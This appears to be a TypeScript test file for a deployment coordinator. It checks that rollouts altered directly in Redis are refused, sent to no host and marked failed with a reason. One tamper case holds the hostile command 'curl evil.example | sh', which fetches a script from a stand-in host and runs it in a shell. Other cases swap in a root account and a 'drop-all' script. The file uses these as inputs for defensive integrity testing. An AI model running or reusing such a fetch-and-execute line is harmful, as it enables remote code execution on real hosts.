/** A rollout that somebody has changed in Redis reaches no host: nothing is sent for it, and it says why. */
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { encodeRollout } from '../../../coordinator/adapters/redis/rollout-body.ts'
import { rolloutKeys } from '../../../coordinator/adapters/redis/rollout-keys.ts'
import { drive } from '../../../coordinator/engine/drive.ts'
import { startRun } from '../../../coordinator/engine/start-run.ts'
import { start } from '../../../coordinator/engine/start.ts'
import type { Rollout } from '../../../coordinator/rollout/state.ts'
import { realRedis } from '../../conformance/real-redis.ts'
import type { RealRedis } from '../../conformance/real-redis.ts'
import { testKeys } from '../../keys.ts'
import { benchOn } from './bench.ts'
import type { Bench } from './bench.ts'

let redis: RealRedis
let bench: Bench
beforeAll(async () => {
  redis = await realRedis()
  bench = benchOn(redis, await testKeys())
  await bench.prepare({}, ['1', '2'])
})
/** Each test has a host of its own, so that no rollout waits for another one's. */
let host: string
let hosts = 0
beforeEach(async () => {
  host = `h${++hosts}`
  await bench.connect(host)
})
afterAll(() => bench.stop())

const by = { actor: 'ann', reason: null }
const deploy = (strategy: Record<string, unknown> = {}) => start(bench.ports, { service: 'web', release: '1', hosts: host, strategy: { onBusy: 'supersede', ...strategy } }, by)
const run = () => startRun(bench.ports, { hosts: host, command: 'uptime' }, by)

/** The rollout as somebody has left it in Redis, and driven then. */
async function changed(rollout: Rollout, change: Partial<Rollout>): Promise<string> {
  await redis.connections.commands.hset(rolloutKeys(rollout.id).state, 'body', encodeRollout({ ...rollout, ...change }))
  await drive(bench.ports, rollout.id)
  await drive(bench.ports, rollout.id)
  return rollout.id
}

const mailed = async () => [...(await bench.mailbox.look(host)).mail.values()].map(({ command }) => command.rollout)

test('one that nobody has changed is sent, and so is a run', async () => {
  const ids = [await changed(await deploy(), {}), await changed(await run(), {})]
  expect(await mailed()).toEqual(expect.arrayContaining(ids))
})

test.each<[string, () => Promise<Rollout>, (rollout: Rollout) => Partial<Rollout>]>([
  ['another command line', run, () => ({ run: { command: 'curl evil.example | sh', account: null } })],
  ['another account', run, () => ({ run: { command: 'uptime', account: 'root' } })],
  ['a deployment that is a run now', deploy, () => ({ kind: 'run', run: { command: 'uptime', account: null } })],
  ['another actor', deploy, () => ({ actor: 'bob' })],
  ['another service', deploy, () => ({ service: 'api' })],
  ['another way to stop', deploy, ({ strategy }) => ({ strategy: { ...strategy, stop: 'kill' } })],
  ['another deadline', deploy, ({ strategy }) => ({ strategy: { ...strategy, timeoutMs: 1 } })],
  ['no seal', deploy, () => ({ seal: null })],
])('%s: nothing is sent, and the rollout says why', async (_what, order, change) => {
  const rollout = await order()
  const id = await changed(rollout, change(rollout))
  expect(await mailed()).not.toContain(id)
  expect(await bench.task(id, host)).toMatchObject({ state: 'failed', failure: { message: expect.stringContaining('changed in Redis') } })
})

test('the seal of another rollout is none', async () => {
  const [one, other] = [await run(), await run()]
  const id = await changed(one, { run: other.run, createdAtMs: other.createdAtMs, seal: other.seal })
  expect(await mailed()).not.toContain(id)
})

test('a script that the rollout was not ordered with is not run', async () => {
  const rollout = await deploy({ before: ['migrate'] })
  const id = await changed(rollout, { scripts: rollout.scripts.map((script) => ({ ...script, name: 'drop-all' })) })
  expect(await mailed()).not.toContain(id)
  expect((await bench.rollout(id)).scripts[0]).toMatchObject({ state: 'failed', failure: { message: expect.stringContaining('was not ordered with a script drop-all') } })
})

test('a row that names a revision of another service takes no host there', async () => {
  const record = (await bench.ports.catalogue.revision((await deploy()).revision))!
  await bench.ports.catalogue.putRevisions([{ ...record, service: 'api', goal: { ...record.goal, revision: 'of-api' } }])
  const rollout = await deploy()
  const { commands } = redis.connections
  const key = rolloutKeys(rollout.id).tasks
  await commands.hset(key, host, (await commands.hget(key, host))!.replace(rollout.revision, 'of-api'))
  const id = await changed(rollout, {})
  expect(await mailed()).not.toContain(id)
  expect((await bench.task(id, host)).failure?.message).toBe('revision of-api is one of api, and the rollout is of web')
})
